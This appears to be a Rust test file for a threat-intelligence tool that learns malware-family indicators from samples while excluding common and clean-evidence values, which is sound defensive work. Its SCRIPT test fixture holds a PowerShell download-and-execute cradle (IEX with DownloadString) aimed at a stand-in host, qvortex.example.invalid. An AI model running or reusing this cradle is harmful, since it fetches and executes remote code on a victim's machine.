use super::*;
use evidence::{Event, Location, Provenance, Record, RecordData};
use intel::{IndicatorKind as Kind, Observation};

const SCRIPT: &str = "$stage='qvortexloader'; IEX (New-Object Net.WebClient).DownloadString('http://cdn.qvortex.example.invalid:8000/a1.ps1'); \
                      Get-Process | Where-Object { $_.Name -eq 'powershell' }; $dns='8.8.8.8'; Invoke-WebRequest https://github.com/";

fn learned(text: &str, clean: &[Evidence]) -> Learned {
    let sample = Sample::file("a.ps1".into(), text.as_bytes().to_vec());
    learn("Qvortex", "made for a test", &[sample], &[], Intel::builtin(), clean)
}

fn has(learned: &Learned, kind: Kind, part: &str) -> bool {
    learned.family.indicators.iter().any(|i| i.kind == kind && i.pattern.as_str().contains(part))
}

#[test]
fn what_is_its_own_is_kept_and_what_is_everybodys_is_left_out() {
    let learned = learned(SCRIPT, &[]);
    assert!(has(&learned, Kind::CommandText, "qvortexloader"), "{:#?}", learned.family.indicators);
    assert!(has(&learned, Kind::Domain, "cdn.qvortex.example.invalid"), "{:#?}", learned.family.indicators);
    assert!(has(&learned, Kind::Sha256, "") && !learned.hashes_only());
    for common in ["8.8.8.8", "github.com"] {
        assert!(!learned.family.indicators.iter().any(|i| i.pattern.as_str() == common), "{common}");
        assert!(
            learned.left_out.iter().any(|(candidate, why)| candidate.text == common && *why == Why::Common)
        );
    }
    assert!(!has(&learned, Kind::CommandText, "Where-Object"));
}

#[test]
fn the_sample_is_known_again_and_its_file_is_as_families_are() {
    let learned = learned(SCRIPT, &[]);
    let text = learned.family.to_toml().unwrap();
    let family = Family::from_toml("x.toml", &text).unwrap();
    let intel = Intel::builtin().clone().with_families([family]);
    let seen = [Observation::new(Kind::CommandText, SCRIPT)];
    let found = intel.match_families(&seen);
    assert_eq!((found[0].family, found[0].certain), ("Qvortex", true));
}

#[test]
fn what_clean_evidence_has_is_left_out() {
    let mut clean = Evidence::default();
    let text = "a script of our own, from cdn.qvortex.example.invalid".to_owned();
    clean.records.push(Record {
        provenance: Provenance { source: 0, location: Location::Whole },
        data: RecordData::Event(Event { data: [("ScriptBlockText".to_owned(), text)].into(), ..event() }),
    });
    let learned = learned(SCRIPT, &[clean]);
    assert!(!has(&learned, Kind::Domain, "cdn.qvortex.example.invalid"));
    assert!(learned.left_out.iter().any(|(_, why)| *why == Why::Clean), "{:?}", learned.left_out);
}

fn event() -> Event {
    serde_json::from_value(serde_json::json!({
        "provider": "x", "channel": "x", "event_id": 1, "record_id": 1, "time": "2026-01-01T00:00:00Z", "computer": "x", "data": {}
    }))
    .unwrap()
}

#[test]
fn stock_names_never_become_a_signature() {
    let text = "Get-WmiObject __EventFilter -Filter \"Name='SCM Event Log Filter'\"; 'select * from MSFT_SCMEventLogEvent'";
    let learned = learned(text, &[]);
    let matched = clean::matched(&learned.family, Intel::builtin(), &[]);
    assert!(matched.is_empty(), "{matched:?}");
    assert!(!has(&learned, Kind::CommandText, "MSFT_SCMEventLogEvent"), "{:#?}", learned.family.indicators);
}

#[test]
fn a_script_of_common_words_leaves_hashes_only() {
    let learned = learned("Get-Process | Stop-Process -Name powershell -Force", &[]);
    assert!(learned.hashes_only(), "{:#?}", learned.family.indicators);
}
